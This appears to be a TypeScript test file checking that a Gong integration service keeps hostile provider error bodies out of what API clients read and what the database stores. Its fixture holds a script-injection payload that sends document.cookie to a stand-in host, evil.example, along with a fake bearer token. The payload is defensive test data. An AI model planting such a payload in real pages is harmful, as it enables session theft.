/**
 * Rule 3: provider response bodies never reach API clients. A host posing as Gong's customer
 * API answers with a hostile body; members and admins read only callsync's own message and a
 * stable code in every place an error shows (the integration's error and lastSyncError, the
 * run's error, each user's error), and the provider's words go to the log only, redacted.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { generateGongDataset } from "../../src/simulators/gong/dataset.js";
import { type GongSimulator, startGongSimulator } from "../../src/simulators/gong/server.js";
import { defaultScenario } from "../../src/simulators/scenario.js";
import {
  SecurityIntegrationErrorsDocument,
  WizardChooseBackfillDocument,
  WizardConnectDocument,
  WizardStartSyncDocument,
  WizardSyncNowDocument,
} from "../generated/graphql.js";
import type { TestApi } from "../support/api.js";
import { type ApiEnv, gongEnv } from "../support/backfill.js";
import { type HostileServer, startHostileServer } from "../support/hostile.js";
import { authorizeInBrowser } from "../support/oauth.js";
import { localId } from "../support/progress.js";

const MARKER = "HOSTILE-BODY-7f3a";
const HOSTILE_BODY = JSON.stringify({
  errors: [
    `<script>fetch('https://evil.example/?c='+document.cookie)</script> ${MARKER} Bearer at_leaked_token_value_123456`,
  ],
});
const scenario = defaultScenario({ callsPerUser: 2 });

let gong: GongSimulator;
let env: ApiEnv;
let hostile: HostileServer;
let api: TestApi;
let token: string;
let memberToken: string;
let integrationId: string;

beforeAll(async () => {
  gong = await startGongSimulator({ dataset: generateGongDataset(scenario) });
  // The customer API base the token names: a host that forwards to Gong until told otherwise.
  hostile = await startHostileServer(gong.url);
  gong.switches.apiBaseUrl = hostile.url;
  env = await gongEnv(gong, { scenario, engine: { maxAttempts: 1, retryDelayMs: 50 } });
  ({ api, token } = env);
  const member = await api.prisma.user.findFirstOrThrow({
    where: { workspaceId: env.demo.workspaceId, role: "MEMBER" },
  });
  memberToken = await api.tokenFor(member);
  const connect = await api.gql(WizardConnectDocument, { provider: "GONG" }, token);
  integrationId = connect.data!.connectIntegration.integration.id;
  expect((await authorizeInBrowser(connect.data!.connectIntegration.authorizationUrl!, token)).outcome).toBe(
    "connected",
  );
  await api.gql(WizardChooseBackfillDocument, { integrationId, period: "DAYS_30" }, token);
}, 60_000);
afterAll(async () => {
  await env?.close();
  await hostile?.close();
});

const hostileAnswer = (status: number, pathPrefix: string) => {
  hostile.answer = (req, res) => {
    if (!(req.url ?? "").startsWith(pathPrefix)) return false;
    res.writeHead(status, { "content-type": "application/json" }).end(HOSTILE_BODY);
    return true;
  };
};

/**
 * What is stored for clients to read holds none of the body either: the read side maps codes
 * to messages too, so this is what catches a writer that copies provider words.
 */
async function expectNothingStored() {
  const like = { contains: MARKER };
  const [integrations, runs, users] = await Promise.all([
    api.prisma.integration.count({ where: { OR: [{ lastSyncError: like }, { errorMessage: like }] } }),
    api.prisma.syncRun.count({ where: { error: like } }),
    api.prisma.syncUserStatus.count({ where: { errorMessage: like } }),
  ]);
  expect({ integrations, runs, users }).toEqual({ integrations: 0, runs: 0, users: 0 });
}

async function errorsAfterRun(runId: string) {
  for (let i = 0; i < 300; i++) {
    const res = await api.gql(SecurityIntegrationErrorsDocument, { provider: "GONG" }, token);
    const run = res.data?.integration?.latestRun;
    if (run?.id === runId && run.status !== "RUNNING") return res;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error("run did not finish");
}

describe("what clients read when the provider answers with a hostile body", () => {
  it("per-user errors: callsync's message and a stable code, not the body", async () => {
    hostileAnswer(400, "/v2/calls");
    const started = await api.gql(WizardStartSyncDocument, { integrationId }, token);
    expect(started.errors).toBeUndefined();
    const res = await errorsAfterRun(started.data!.startSync.id);
    const run = res.data!.integration!.latestRun!;
    const failed = run.users.filter((u) => u.state === "FAILED");
    expect(failed.length).toBeGreaterThan(0);
    for (const u of failed) {
      expect(u.error).toEqual({ code: "BAD_REQUEST", message: expect.stringMatching(/^The provider refused/) });
    }
    for (const viewer of [token, memberToken]) {
      const seen = await api.gql(SecurityIntegrationErrorsDocument, { provider: "GONG" }, viewer);
      expect(JSON.stringify(seen)).not.toContain(MARKER);
      expect(JSON.stringify(seen)).not.toContain("<script>");
    }
    await expectNothingStored();
  });

  it("a failed run: SyncRun.error and lastSyncError are callsync's words", async () => {
    hostileAnswer(500, "/v2/users");
    const run = await api.gql(WizardSyncNowDocument, { integrationId }, token);
    expect(run.errors).toBeUndefined();
    const res = await errorsAfterRun(run.data!.syncNow.id);
    const integration = res.data!.integration!;
    expect(integration.latestRun!.status).toBe("FAILED");
    expect(integration.latestRun!.error).toMatch(/^The provider had errors or could not be reached/);
    expect(integration.lastSyncError).toBe(integration.latestRun!.error);
    expect(JSON.stringify(res)).not.toContain(MARKER);
    await expectNothingStored();
  });

  it("revoked credentials: the integration's error is callsync's message", async () => {
    hostileAnswer(401, "/v2/");
    const run = await api.gql(WizardSyncNowDocument, { integrationId }, token);
    if (run.data) await errorsAfterRun(run.data.syncNow.id);
    const res = await api.gql(SecurityIntegrationErrorsDocument, { provider: "GONG" }, token);
    expect(res.data!.integration!.status).toBe("RECONNECT_NEEDED");
    expect(res.data!.integration!.error).toEqual({
      code: "AUTH_FAILED",
      message: expect.stringMatching(/^The provider no longer accepts/),
    });
    expect(JSON.stringify(res)).not.toContain(MARKER);
    await expectNothingStored();
  });

  it("rows stored before the rule, holding provider words, are still read in callsync's words", async () => {
    const legacy = `Unexpected status 500: ${HOSTILE_BODY}`;
    const id = localId(integrationId);
    await api.prisma.integration.update({
      where: { id },
      data: { lastSyncError: `BAD_RESPONSE: ${legacy}`, errorCode: "AUTH_FAILED", errorMessage: legacy },
    });
    const run = await api.prisma.syncRun.findFirstOrThrow({
      where: { integrationId: id },
      orderBy: { startedAt: "desc" },
    });
    await api.prisma.syncRun.update({ where: { id: run.id }, data: { error: `BAD_RESPONSE: ${legacy}` } });
    await api.prisma.syncUserStatus.updateMany({
      where: { runId: run.id },
      data: { state: "FAILED", errorCode: "BAD_REQUEST", errorMessage: legacy },
    });
    for (const viewer of [token, memberToken]) {
      const res = await api.gql(SecurityIntegrationErrorsDocument, { provider: "GONG" }, viewer);
      expect(res.errors).toBeUndefined();
      expect(JSON.stringify(res)).not.toContain(MARKER);
    }
  });
});
